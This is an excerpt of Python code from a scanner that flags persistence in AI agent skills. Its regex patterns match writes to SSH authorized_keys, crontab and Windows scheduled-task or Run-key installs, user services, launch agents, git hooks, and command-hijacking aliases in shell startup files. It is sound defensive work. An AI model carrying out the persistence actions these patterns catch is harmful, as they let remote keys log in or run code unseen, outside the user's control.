    """A startup file written from a here-document (``cat >> ~/.bashrc <<EOF``) whose lines hijack a
    common command is medium, as the same line echoed there is; any other line written there stays low."""
    end = doc.remember(_Heredocs, lambda: _Heredocs(doc.folded)).hijack_end(match.start(), match.end())
    return hit if end is None else replace(hit, severity="medium", end=end)


#: authorized_keys opened by a program (Python): ``open(... 'authorized_keys', 'a')``, ``.write_text``.
_KEYS_OPENED = (r"\bauthorized_keys2?[\"']\s*\)*\s*,\s*[\"'](?:a|w)\+?b?[\"']|"
                r"\bauthorized_keys2?[\"']?\s*\)*\s*\.\s*(?:write_text|open\s*\(\s*[\"']a)")
#: A crontab installed (piped in, or from a file).
_CRONTAB = (r"\|\s*(?:sudo\s+)?crontab\s+(?:-u\s+\S+\s+)?-(?=\s|$|[;&|)\"'`])|"
            r"\bcrontab\s+(?:-u\s+\S+\s+)?(?!-)[\w./~$-]+(?=\s*(?:(?m:$)|[;&|)#]))")
#: A Windows scheduled task or Run key.
_SCHEDULED = (r"\bschtasks(?:\.exe)?\s+/create\b|\bRegister-ScheduledTask\b|"
              r"\breg(?:\.exe)?\s+add\s+[\"']?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE)\\+Software\\+Microsoft\\+"
              r"Windows\\+CurrentVersion\\+Run(?:Once)?\b|"
              r"\b(?:Registry::)?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE):?\\*Software\\+Microsoft\\+Windows\\+"
              r"CurrentVersion\\+Run(?:Once)?\b")
#: A user service enabled, a launch agent loaded.
_SERVICES = r"\bsystemctl\s+(?:--user\s+enable|enable\s+--user)\b|\blaunchctl\s+(?:load|bootstrap)\b"


PERSISTENCE = Rule(
    "SK635", "remote-code", "medium", "persistence: makes something run later, or lets a key log in",
    "A skill's work ends with the session; a line added to authorized_keys lets a remote key log in to this "
    "machine (high when the key is written in the skill), and a crontab, a scheduled task, a Run key or an "
    "alias of a common command in a shell's startup file runs code later, unseen. A startup file's other lines "
    "(a PATH) and services, launch agents and git hooks are low.", COMMANDS, patterns=(
        command(r"\b(?:echo|printf|cat)\b", r"[^\n]*",
                rf"{_PUBLIC_KEY}[^\n]{{0,300}}?{_WRITTEN_TO}(?:{_HOME}|\$\{{?\w+\}}?){_AUTHORIZED_KEYS}",
                lazy=True, severity="high"),
        pattern(rf"{_WRITTEN_TO}(?:{_HOME}|\$\{{?\w+\}}?)?/?\.ssh/+authorized_keys2?\b|{_KEYS_OPENED}",
                hopeless=_TEE_HOPELESS, beside=_KEYS_OPENED),
        command(r"\b(?:echo|printf)\b", r"[^\n]*", rf"{_HIJACKS}[^\n]{{0,300}}?{_WRITTEN_TO}(?:{_HOME}{_STARTUP_FILE}|"
                rf"{_SYSTEM_STARTUP})", lazy=True),
        pattern(rf"{_WRITTEN_TO}(?:{_HOME}{_STARTUP_FILE}|{_SYSTEM_STARTUP})", severity="low",
                condition=_heredoc_hijacks, hopeless=_TEE_HOPELESS),
        pattern(rf"{_CRONTAB}|{_WRITTEN_TO}/(?:etc/cron(?:tab|\.d|\.hourly|\.daily|\.weekly|\.monthly)|"
                rf"var/spool/cron)\b|{_SCHEDULED}", hopeless=_TEE_HOPELESS, beside=f"{_CRONTAB}|{_SCHEDULED}"),
        command(r"\b(?:cp|mv|ln)\b", r"[^\n;&|]*",
                r"\s[\"']?/(?:etc/cron(?:tab|\.d|\.hourly|\.daily|\.weekly|\.monthly)|var/spool/cron)\b"),
        pattern(rf"{_SERVICES}|{_WRITTEN_TO}{_HOME}/Library/LaunchAgents/|{_WRITTEN_TO}(?:\S*/)?\.git/hooks/[\w-]+",
                severity="low", hopeless=_WRITTEN_WORD_HOPELESS, beside=_SERVICES),
    ))
